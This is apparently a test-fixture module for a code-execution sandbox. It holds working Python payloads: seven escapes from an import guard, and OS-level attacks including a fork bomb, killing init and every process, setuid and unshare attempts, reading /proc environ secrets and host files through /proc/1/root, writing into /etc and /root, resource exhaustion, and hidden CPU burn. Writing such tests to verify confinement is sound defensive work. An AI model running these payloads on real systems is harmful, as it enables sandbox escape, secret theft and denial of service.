"""Our own hostile code: routes out of the Python-level guard, and OS-level attacks.

Every escape route defines ``_mod(name)``, which returns the real module
``name`` (importing it with the real ``__import__`` if needed) without ever
going through the run's guarded import. The attacks then use ``os``,
``ctypes``, ``socket`` and friends exactly as if no guard existed: what
stops them must be the OS-level confinement.

Attack code gets its targets as inputs: ``canary`` (a path in a host-only
directory), ``port``/``udp_port`` (listeners in the host network
namespace), ``marker`` (a unique file name) and ``system_paths`` (random
names under /etc, /usr and /root); a few take parameters of their own
(``directory`` for filling space, ``files`` for memfd memory, ``kind``
and ``close`` for file-descriptor exhaustion, ``how`` for the channel). Names the tests
do not read start with an underscore, so they are not outputs.
"""

from __future__ import annotations

ESCAPES = {
    # os.__dict__ through a class defined in os, found among object's subclasses.
    "subclass_walk": """
def _mod(name):
    for cls in object.__subclasses__():
        if cls.__name__ == "_wrap_close":
            modules = cls.__init__.__globals__["sys"].modules
            return modules.get(name) or modules["builtins"].__import__(name)
""",
    # The frames of a traceback lead back into the worker's own loop, whose globals hold sys.
    "traceback_frames": """
def _mod(name):
    try:
        raise ZeroDivisionError
    except ZeroDivisionError as exc:
        frame = exc.__traceback__.tb_frame
    while "sys" not in frame.f_globals:
        frame = frame.f_back
    modules = frame.f_globals["sys"].modules
    return modules.get(name) or modules["builtins"].__import__(name)
""",
    # A running generator's frame knows its caller.
    "generator_frame": """
def _mod(name):
    def climber():
        yield me.gi_frame.f_back
    me = climber()
    frame = next(me)
    while "sys" not in frame.f_globals:
        frame = frame.f_back
    modules = frame.f_globals["sys"].modules
    return modules.get(name) or modules["builtins"].__import__(name)
""",
    # random (allowed) keeps os as random._os.
    "random_os": """
import random
def _mod(name):
    modules = random._os.sys.modules
    return modules.get(name) or modules["builtins"].__import__(name)
""",
    # asyncio (pre-bound, allowed) re-exports os, sys, socket and subprocess.
    "asyncio_reexport": """
def _mod(name):
    modules = asyncio.base_events.sys.modules
    return modules.get(name) or asyncio.base_events.os.sys.modules["builtins"].__import__(name)
""",
    # Any function of an allowed module carries the real builtins in its globals.
    "allowed_module_globals": """
import json
def _mod(name):
    return json.dumps.__globals__["__builtins__"]["__import__"](name)
""",
    # gc (reached through warnings.sys) finds the worker's own Guard and its real __import__.
    "gc_objects": """
import warnings
def _mod(name):
    gc = warnings.sys.modules["gc"]
    for obj in gc.get_objects():
        if type(obj).__name__ == "Guard":
            return obj._real_import(name)
""",
}


def escaped(route: str, body: str) -> str:
    """``body`` preceded by the escape ``route``."""
    return ESCAPES[route] + body


# --- process creation --------------------------------------------------------

FORK_LOOP = """
os = _mod("os")
while True:
    os.fork()
"""

POSIX_SPAWN = """
os = _mod("os")
while True:
    os.posix_spawn("/bin/sh", ["sh", "-c", f"touch {canary}"], {})
"""

POSIXSUBPROCESS = """
os = _mod("os")
_fork_exec = _mod("_posixsubprocess").fork_exec
_err_r, _err_w = os.pipe()
_fork_exec([b"/bin/sh", b"-c", f"touch {canary}".encode()], [b"/bin/sh"], True, (_err_w,), None, None,
           -1, -1, -1, -1, -1, -1, _err_r, _err_w, True, False, -1, None, None, None, -1, None, True)
"""

OS_SYSTEM = """
os = _mod("os")
status = os.system(f"touch {canary}")
"""

RAW_CLONE = """
ctypes = _mod("ctypes")
_libc = ctypes.CDLL(None, use_errno=True)
results = []
for _number in (57, 58, 56):  # fork, vfork, clone(SIGCHLD): no new process may appear
    results.append([_libc.syscall(_number, 17, 0, 0, 0, 0), ctypes.get_errno()])
"""

SUBPROCESS_EXEC_VIA_LOOP = """
_proc = await asyncio.create_subprocess_exec("/bin/sh", "-c", f"touch {canary}")
await _proc.wait()
"""

SUBPROCESS_MODULE = """
subprocess = _mod("subprocess")
subprocess.run(["/bin/sh", "-c", f"touch {canary}"])
"""

# --- orphans and daemons ---------------------------------------------------------

DOUBLE_FORK_DAEMON = """
os = _mod("os")
_r, _w = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.write(_w, str(os.getpid()).encode())
        _mod("time").sleep(3600)
    os._exit(0)
os.close(_w)
daemon = int(os.read(_r, 100))
seen_during_run = daemon in [int(p) for p in os.listdir("/proc") if p.isdigit()]
"""

# Undo the worker's clean-up of the run's processes, then leave one behind:
# spinning, or asleep (it must go either way).
LEFTOVER_AFTER_UNDOING_CLEANUP = """
os = _mod("os")
_mod("sys").modules["sandbox.runtime.worker"]._end_leftover_processes = lambda: None
if os.fork() == 0:
    if spin:
        while True:
            pass
    _mod("time").sleep(3600)
    os._exit(0)
armed = True
"""

LIST_PROCESSES = """
os = _mod("os")
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
"""

SHELL_DAEMON_VIA_LOOP = """
_proc = await asyncio.create_subprocess_shell("setsid sleep 3600 &")
await _proc.wait()
"""

THREAD_LEFT_RUNNING = """
threading = _mod("threading")
threading.Thread(target=_mod("time").sleep, args=(3600,), daemon=True).start()
started = True
"""

# --- signals --------------------------------------------------------------------

KILL_PARENT = """
os = _mod("os")
os.kill(os.getppid(), 9)
"""

KILL_EVERYONE = """
os = _mod("os")
os.kill(-1, 9)
"""

KILL_INIT = """
os = _mod("os")
errors = []
# SIGKILL, SIGTERM, SIGSTOP, and signals a Python process may handle (SIGINT
# always is): the init must have no handler for any of them.
for _signum in (9, 15, 19, 1, 2, 6, 10, 14, 17):
    try:
        os.kill(1, _signum)
        errors.append(None)
    except OSError as _exc:
        errors.append(_exc.errno)
"""

PIDFD_KILL_INIT = """
os = _mod("os")
signal = _mod("signal")
signal.pidfd_send_signal(os.pidfd_open(1), 9)
"""

SIGNAL_SCAN = """
os = _mod("os")
reached = []
for _pid in range(1, 20000):
    if _pid == os.getpid():
        continue
    try:
        os.kill(_pid, 0)
        reached.append(_pid)
    except OSError:
        pass
"""

PTRACE_INIT = """
ctypes = _mod("ctypes")
_libc = ctypes.CDLL(None, use_errno=True)
_buffer = ctypes.create_string_buffer(64)
_local = (ctypes.c_void_p * 2)(ctypes.addressof(_buffer), 64)
_remote = (ctypes.c_void_p * 2)(0x400000, 64)
results = {
    "ptrace_attach": [_libc.ptrace(16, 1, 0, 0), ctypes.get_errno()],
    "process_vm_readv": [_libc.process_vm_readv(1, _local, 1, _remote, 1, 0), ctypes.get_errno()],
}
"""

# --- identity and namespaces ----------------------------------------------------

REGAIN_PRIVILEGES = """
os = _mod("os")
ctypes = _mod("ctypes")
_libc = ctypes.CDLL(None, use_errno=True)
_attempts = {
    "setuid-0": lambda: os.setuid(0),
    "setgid-0": lambda: os.setgid(0),
    "setgroups-0": lambda: os.setgroups([0]),
    "unshare-user": lambda: _libc.unshare(0x10000000),
    "unshare-mount": lambda: _libc.unshare(0x00020000),
    "unshare-net": lambda: _libc.unshare(0x40000000),
    "mount-tmpfs": lambda: _libc.mount(b"tmpfs", b"/work", b"tmpfs", 0, None),
    "chroot": lambda: _libc.chroot(b"/work"),
}
succeeded = []
for _name, _attempt in _attempts.items():
    try:
        if _attempt() in (None, 0):
            succeeded.append(_name)
    except OSError:
        pass
"""

# --- rlimits --------------------------------------------------------------------

PRLIMIT_PARENT = """
os = _mod("os")
resource = _mod("resource")
resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3))  # getppid() is 0 (self) in the PID namespace
resource.setrlimit(resource.RLIMIT_AS, (1 << 26, 1 << 26))
"""

PRLIMIT_INIT = """
resource = _mod("resource")
resource.prlimit(1, resource.RLIMIT_NOFILE, (3, 3))
"""

PRLIMIT_SCAN = """
resource = _mod("resource")
changed = []
for _pid in range(3, 5000):
    try:
        resource.prlimit(_pid, resource.RLIMIT_NPROC, (1, 1))
        changed.append(_pid)
    except (OSError, ValueError):
        pass
"""

# --- secrets in the environment ---------------------------------------------------

READ_ENVIRONMENTS = """
os = _mod("os")
seen = {"os.environ": dict(os.environ), "getppid": os.getppid()}
_paths = ["/proc/self/environ", "/proc/1/environ", f"/proc/{os.getppid()}/environ",
          "/proc/self/task/2/environ", "/proc/1/root/proc/1/environ"]
_paths += [f"/proc/{_entry}/environ" for _entry in os.listdir("/proc") if _entry.isdigit()]
for _path in _paths:
    try:
        with open(_path, "rb") as _f:
            seen[_path] = _f.read().decode(errors="replace")
    except OSError as _exc:
        seen[_path] = repr(_exc)
print(seen)
"""

READ_HOST_THROUGH_INIT = """
os = _mod("os")
attempts = {}
for _path in ("/proc/1/root/etc/hostname", "/proc/1/root/etc/passwd", "/proc/1/cwd", "/proc/1/root"):
    try:
        attempts[_path] = os.listdir(_path) if _path.endswith(("root", "cwd")) else open(_path).read()
    except OSError as _exc:
        attempts[_path] = _exc.errno
"""

# --- network -------------------------------------------------------------------------

TCP_CONNECT = """
socket = _mod("socket")
_s = socket.create_connection(("127.0.0.1", port), timeout=1)
_s.sendall(b"pwned")
"""

UDP_SEND = """
socket = _mod("socket")
_s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
_s.sendto(b"pwned", ("127.0.0.1", udp_port))
"""

OPEN_CONNECTION_VIA_LOOP = """
_reader, _writer = await asyncio.open_connection("127.0.0.1", port)
_writer.write(b"pwned")
await _writer.drain()
"""

DATAGRAM_VIA_LOOP = """
_transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
    asyncio.DatagramProtocol, remote_addr=("127.0.0.1", udp_port))
_transport.sendto(b"pwned")
"""

SOCKET_FAMILIES = """
socket = _mod("socket")
created = []
for _family, _kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_STREAM),
                       (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET, socket.SOCK_RAW),
                       (socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_NETLINK, socket.SOCK_RAW),
                       (socket.AF_VSOCK, socket.SOCK_STREAM)):
    try:
        socket.socket(_family, _kind).close()
        created.append([int(_family), int(_kind)])
    except OSError:
        pass
"""

# --- writes outside the scratch space ---------------------------------------------------

WRITE_EVERYWHERE = """
os = _mod("os")
written = []
for _target in [canary, f"/proc/1/root{canary}", f"/proc/1/cwd/{marker}", "/" + marker, *system_paths]:
    try:
        with open(_target, "w") as _f:
            _f.write("pwned")
        written.append(_target)
    except OSError:
        pass
try:
    os.symlink(canary, "link")
    with open("link", "w") as _f:
        _f.write("pwned")
    written.append("link")
except OSError:
    pass
"""

# --- filling memory-backed and disk space --------------------------------------------------

# Files of 1 MiB chunks in ``directory`` until the space is full: each file
# grows until the file-size limit stops it (EFBIG), then the next one starts.
FILL = """
os = _mod("os")
_chunk = b"f" * (1 << 20)
sizes = []
try:
    for _n in range(1000):
        _fd = os.open(f"{directory}/{marker}-{_n}", os.O_CREAT | os.O_WRONLY, 0o600)
        try:
            while True:
                os.write(_fd, _chunk)
        except OSError as _exc:
            if _exc.errno != 27:
                raise
        finally:
            sizes.append(os.fstat(_fd).st_size)
            os.close(_fd)
except OSError as _exc:
    stopped_by = _exc.errno
"""

# Memory in memfd files: shmem pages, which neither RLIMIT_DATA nor the RSS of
# the worker counts. ``files`` memfds of 16 MiB each (the default file-size limit).
MEMFD_HOG = """
os = _mod("os")
_chunk = b"m" * (1 << 20)
_fds = []
held = 0
while len(_fds) < files:
    _fds.append(os.memfd_create("hog"))
    for _ in range(16):
        held += os.write(_fds[-1], _chunk)
"""

SYSV_SHARED_MEMORY = """
ctypes = _mod("ctypes")
_libc = ctypes.CDLL(None, use_errno=True)
_segment = _libc.shmget(0, 256 << 20, 0o1600)  # IPC_PRIVATE | IPC_CREAT
errno = ctypes.get_errno() if _segment < 0 else 0
"""

SPARSE_FILES = """
os = _mod("os")
errors = {}
_fd = os.open(marker, os.O_CREAT | os.O_WRONLY, 0o600)
for _name, _attempt in (("truncate", lambda: os.truncate(_fd, 1 << 40)),
                        ("seek_and_write", lambda: (os.lseek(_fd, 1 << 40, 0), os.write(_fd, b"z"))),
                        ("fallocate", lambda: os.posix_fallocate(_fd, 0, 1 << 34))):
    try:
        _attempt()
        errors[_name] = None
    except OSError as _exc:
        errors[_name] = _exc.errno
size = os.fstat(_fd).st_size
"""

# --- threads and file descriptors ------------------------------------------------------------

THREAD_BOMB = """
threading = _mod("threading")
time = _mod("time")
started = 0
try:
    while started < 10000:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
        started += 1
except RuntimeError as _exc:
    error = str(_exc)
"""

SPINNING_THREADS = """
_thread = _mod("_thread")
def _spin():
    while True:
        pass
for _ in range(8):
    _thread.start_new_thread(_spin, ())
_spin()
"""

FD_EXHAUSTION = """
os = _mod("os")
socket = _mod("socket")
_makers = {
    "files": lambda: [os.open("/dev/null", os.O_RDONLY)],
    "pipes": lambda: list(os.pipe()),
    "socketpairs": lambda: [s.detach() for s in socket.socketpair()],
    "eventfds": lambda: [os.eventfd(0)],
}
_opened = []
try:
    while len(_opened) < 100000:
        _opened += _makers[kind]()
except OSError as _exc:
    stopped_by = _exc.errno
count = len(_opened)
if close:
    for _fd in _opened:
        os.close(_fd)
"""

CHANNEL_TAMPERING = """
os = _mod("os")
socket = _mod("socket")
if how == "close":
    os.close(3)
else:
    _ours, _theirs = socket.socketpair()
    os.dup2(_theirs.fileno(), 3)
"""

# --- CPU used after the run, while the worker has none --------------------------------------

# Each leaves something behind that spins once the run's reply is out, so
# the worker looks idle to the pool while it burns a CPU.
IDLE_TIMER_HANDLER = """
signal, time = _mod("signal"), _mod("time")
def _burn(*_):
    end = time.monotonic() + 0.09
    while time.monotonic() < end:
        pass
signal.signal(signal.SIGALRM, _burn)
signal.setitimer(signal.ITIMER_REAL, 0.05, 0.1)
armed = True
"""

SPIN_AFTER_REPLY = """
os = _mod("os")
_write = os.write
def _spin_after(fd, data):
    written = _write(fd, data)
    if fd == 3:  # the reply is out: spin where the worker would wait for its next run
        while True:
            pass
    return written
os.write = _spin_after
armed = True
"""

THREAD_FROM_A_LATER_SIGNAL = """
signal, threading = _mod("signal"), _mod("threading")
def _start(*_):  # runs once the run is over, so the worker's thread count saw none
    threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()
signal.signal(signal.SIGALRM, _start)
signal.setitimer(signal.ITIMER_REAL, 0.2)
armed = True
"""

# A name that makes /proc/PID/stat look like it ends early, for a parser
# that splits at the first ")"; then a timer that spins.
MISLEADING_NAME_THEN_SPIN = (
    """
_mod("ctypes").CDLL(None).prctl(15, b"x) S 0 0 0 0 0")  # PR_SET_NAME
"""
    + IDLE_TIMER_HANDLER
)

PROFILE_HOOK_SPIN = """
sys = _mod("sys")
def _hook(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "next":  # the worker's wait for its next run
        while True:
            pass
sys.setprofile(_hook)
armed = True
"""

# --- crashes, stops and hogs -----------------------------------------------------------------

NULL_DEREFERENCE = """
ctypes = _mod("ctypes")
ctypes.string_at(0)
"""

ABORT = """
_mod("os").abort()
"""

SELF_SIGSEGV = """
os = _mod("os")
os.kill(os.getpid(), 11)
"""

FAULTHANDLER_SIGSEGV = """
_mod("faulthandler")._sigsegv()
"""

SELF_SIGSTOP = """
os = _mod("os")
os.kill(os.getpid(), 19)
"""

GROUP_SIGSTOP = """
os = _mod("os")
os.kill(0, 19)
"""

RAISE_SIGTSTP = """
signal = _mod("signal")
signal.signal(signal.SIGTSTP, signal.SIG_DFL)
signal.raise_signal(signal.SIGTSTP)
"""

REGEX_BACKTRACKING = """
import re
matched = re.match(r"(a+)+$", "a" * 40 + "!")
"""

BIG_POWER = """
x = 7 ** (10 ** 9)
"""

FACTORIAL = """
import math
x = math.factorial(10 ** 8)
"""

PBKDF2 = """
import hashlib
key = hashlib.pbkdf2_hmac("sha256", b"password", b"salt", 2 ** 31 - 1)
"""
